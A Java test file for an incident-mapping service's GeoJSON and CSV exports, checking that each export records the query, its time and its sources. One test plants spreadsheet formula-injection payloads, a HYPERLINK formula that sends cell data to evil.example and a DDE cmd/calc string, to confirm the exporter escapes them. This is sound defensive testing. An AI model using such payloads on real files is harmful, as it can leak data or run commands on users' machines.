package org.deconfliction.atlas.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.deconfliction.atlas.analysis.BankSide;
import org.deconfliction.atlas.analysis.DrawnRegion;
import org.deconfliction.atlas.geodata.SourceReference;
import org.deconfliction.atlas.incident.Incident;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import tools.jackson.databind.JsonNode;

/** Exports carry the answer together with the question, its time and its sources. */
@SpringBootTest
class ResultExportTest {

    private static final Instant AT = Instant.parse("2026-11-22T08:00:00Z");

    @Autowired
    IncidentQueryService queries;

    @Test
    void geoJsonCarriesTheQuestionTheRegionTheTimeAndEverySourceCited() {
        DrawnRegion box = DrawnRegion.rectangle(39.9, 35.1, 40.6, 35.5);
        QueryResult result = queries.run(IncidentQuery.all().withSpatial(new SpatialCondition.InRegion(box)));

        JsonNode export = ResultExport.geoJson(result, AT);

        assertThat(export.get("type").asString()).isEqualTo("FeatureCollection");
        assertThat(export.get("features").size()).isEqualTo(result.total());
        assertThat(export.at("/query/description").asString()).isEqualTo("incidents inside the drawn rectangle");
        assertThat(export.at("/query/exportedAt").asString()).isEqualTo("2026-11-22T08:00:00Z");
        assertThat(export.at("/query/region/type").asString()).isEqualTo("Polygon");
        assertThat(export.at("/query/parameters/region").asString()).startsWith("POLYGON");
        List<String> seeds = result.answers().stream().flatMap(a -> a.incident().sources().stream()).map(s -> s.seed()).distinct().toList();
        assertThat(export.at("/query/sources").findValuesAsString("seed")).containsExactlyInAnyOrderElementsOf(seeds);
        JsonNode first = export.at("/features/0/properties");
        assertThat(first.get("answer").asString()).isIn("inside", "uncertain");
        assertThat(first.get("riverDistanceKm").asString()).matches("\\d+\\.\\d{3}");
    }

    @Test
    void csvStatesTheQuestionInCommentLinesThenOneQuotedRowPerIncident() {
        QueryResult result = queries.run(IncidentQuery.all().withSpatial(new SpatialCondition.OnBank(BankSide.EAST)));

        List<String> lines = Arrays.asList(ResultExport.csv(result, AT).split("\r\n"));

        assertThat(lines.get(0)).isEqualTo("# Deconfliction Atlas export: incidents east of the Euphrates");
        assertThat(lines.get(1)).isEqualTo("# exported at: 2026-11-22T08:00:00Z");
        assertThat(lines).contains("# bank: east");
        int header = lines.indexOf(lines.stream().filter(l -> l.startsWith("id,")).findFirst().orElseThrow());
        assertThat(lines.size() - header - 1).isEqualTo(result.total());
        String khasham = lines.stream().filter(l -> l.startsWith("battle-of-khasham-2018,")).findFirst().orElseThrow();
        assertThat(khasham).contains(",east,").contains("[000_5de0546176a6674a.txt]");
    }

    @Test
    void csvCellsFromDataNeverReachASpreadsheetAsFormulas() {
        QueryResult shipped = queries.run(IncidentQuery.all());
        IncidentAnswer first = shipped.answers().getFirst();
        Incident i = first.incident();
        Incident planted = new Incident(i.id(), "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", i.summary(),
                i.category(), i.actors(), i.opponent(), i.casualties(), i.place(), i.siteId(), i.location(),
                i.uncertainty(), i.date(), i.timeOfDay(), i.country(),
                List.of(new SourceReference("@SUM(1+1)*cmd|' /C calc'!A0", null, null)), i.disagreements());
        QueryResult result = new QueryResult(IncidentQuery.all(),
                List.of(new IncidentAnswer(planted, first.answer(), first.attributes())));

        String row = Arrays.stream(ResultExport.csv(result, AT).split("\r\n")).filter(l -> l.startsWith(i.id() + ","))
                .findFirst().orElseThrow();

        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",")
                .endsWith(",'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")).noneMatch(cell -> cell.matches("[=+@\\t\\r].*"));
    }
}
